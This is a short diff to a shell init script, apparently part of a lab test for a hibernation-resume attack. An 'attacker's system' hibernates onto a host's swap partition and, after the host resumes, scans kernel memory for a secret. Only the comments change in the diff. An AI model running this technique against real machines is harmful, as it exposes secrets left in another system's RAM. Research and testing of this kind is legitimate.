@@ -1,7 +1,7 @@
 #!/bin/sh
 # SPDX-License-Identifier: Apache-2.0
-# /init of the attacker's system: the host's own kernel and drivers. It hibernates onto the host's swap partition, and goes on when
-# somebody resumes it: with what the host has left in RAM by then.
+# /init of the attacker's system, with the host's own kernel and drivers. It hibernates to the host's swap partition,
+# and continues when something resumes it, with what the host has left in RAM by then.
 export PATH=/usr/sbin:/usr/bin:/sbin:/bin
 mkdir -p /proc /sys /dev
 mount -t proc proc /proc
@@ -20,7 +20,7 @@ echo "@@ hits-before=$(kcore "$secret")"
 swapon /dev/vda3
 echo shutdown >/sys/power/disk
 echo disk >/sys/power/state || echo "@@ hibernated=no"
-# Here it is another boot: the host's.
+# From here on it is another boot: the host's.
 echo "@@ resumed=yes"
 echo "@@ hits-after=$(kcore "$secret")"
 poweroff -f
